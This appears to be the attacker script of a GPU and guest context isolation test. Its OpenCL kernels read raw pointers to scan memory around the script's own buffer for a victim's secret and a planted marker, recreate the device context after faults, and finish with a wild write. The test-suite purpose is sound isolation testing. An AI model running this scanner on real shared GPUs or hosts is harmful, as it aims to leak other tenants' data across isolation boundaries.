# ctx_attacker.py SECRET_HEX MARKER_HEX: the attacker process of
# TestGuestContexts. Its kernels cast integers to pointers: it learns
# where its own buffer is, then scans windows of memory around it for the
# victim's secret, for a marker placed in guest RAM and for a canary in
# its own buffer (which the scan must find: it proves the scan reads
# memory). A window that is not mapped ends its device context; it makes a
# new one and goes on. Then a wild write ends its context once more. It
# prints "ATTACK secret=S marker=M canary=C windows=W losses=L wild=lost".
import gc
import os
import sys

import numpy as np
import pyopencl as cl

secret, marker = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
canary = os.urandom(8)
mask = 0x5A5AA5A50FF0F00F


def word(b):
    """The scan kernel's hash of the 8-byte word at b: the kernel compares
    hashes, so neither its arguments nor its registers ever hold the words
    themselves (it would find its own copy on a stack it scans)."""
    v = int.from_bytes(b[:8], "little") ^ mask
    v ^= v >> 29
    return (v * 0xBF58476D1CE4E5B9) & 0xFFFFFFFFFFFFFFFF


SRC = """
ulong mix(ulong v, ulong mask) { v ^= mask; v ^= v >> 29; return v * 0xbf58476d1ce4e5b9UL; }
__kernel void where(__global ulong *o, __global const uchar *b) { o[0] = (ulong)b; }
__kernel void scan(ulong start, ulong chunk, ulong s, ulong m, ulong c, ulong mask, __global volatile uint *hits) {
	__global const ulong *p = (__global const ulong *)(start + get_global_id(0) * chunk);
	for (ulong j = 0; j < chunk / 8; j++) {
		ulong v = mix(p[j], mask);
		if (v == s) atomic_inc(&hits[0]);
		if (v == m) atomic_inc(&hits[1]);
		if (v == c) atomic_inc(&hits[2]);
	}
}
__kernel void wild(__global int *o) { *(__global int *)0x10 = 1; o[0] = 2; }
"""
dev = cl.get_platforms()[0].get_devices()[0]
mf = cl.mem_flags


class Session:
    """A context of the attacker's, with its canary buffer and where it is."""

    def __init__(self):
        self.ctx = cl.Context([dev])
        self.q = cl.CommandQueue(self.ctx)
        self.prg = cl.Program(self.ctx, SRC).build()
        own = np.frombuffer(canary * 8192, dtype=np.uint8)  # 64 KiB
        self.own = cl.Buffer(self.ctx, mf.READ_WRITE | mf.COPY_HOST_PTR, hostbuf=own)
        self.hits = cl.Buffer(self.ctx, mf.READ_WRITE, 12)
        o = cl.Buffer(self.ctx, mf.READ_WRITE, 8)
        self.prg.where(self.q, (1,), None, o, self.own)
        at = np.zeros(1, dtype=np.uint64)
        cl.enqueue_copy(self.q, at, o)
        self.q.finish()
        self.base = int(at[0])


# Windows of 64 KiB from the canary buffer outwards (0, +1, -1, +2, ...),
# 2 MiB each way: window 0 is the buffer itself.
window, items = 64 << 10, 16
total, windows, losses = np.zeros(3, dtype=np.uint64), 0, 0
s = Session()
offsets = [0] + [sign * k * window for k in range(1, 33) for sign in (1, -1)]
for off in offsets:
    start = s.base + off
    try:
        zero = np.zeros(3, dtype=np.uint32)
        cl.enqueue_copy(s.q, s.hits, zero)
        # The needles travel XOR-ed with mask, so that the kernel's
        # arguments (in the memory it scans) do not hold them.
        s.prg.scan(s.q, (items,), (1,), np.uint64(start), np.uint64(window // items),
                   np.uint64(word(secret[8:16])), np.uint64(word(marker)), np.uint64(word(canary)),
                   np.uint64(mask), s.hits)
        got = np.zeros(3, dtype=np.uint32)
        cl.enqueue_copy(s.q, got, s.hits)
        s.q.finish()
        total += got
        windows += 1
    except cl.Error:
        # The window was not mapped: the context is lost. Drop it (its
        # connection closes) and make a new one.
        losses += 1
        s = None
        gc.collect()
        s = Session()
wild = "survived"
try:
    b = cl.Buffer(s.ctx, mf.READ_WRITE, 64)
    s.prg.wild(s.q, (1,), None, b)
    out = np.zeros(16, dtype=np.int32)
    cl.enqueue_copy(s.q, out, b)  # blocking: fails once the launch did
    s.q.finish()
except cl.Error:
    wild = "lost"
open("/tmp/ctx/attack-done", "w").close()
print("ATTACK secret=%d marker=%d canary=%d windows=%d losses=%d wild=%s" % (total[0], total[1], total[2], windows, losses, wild))
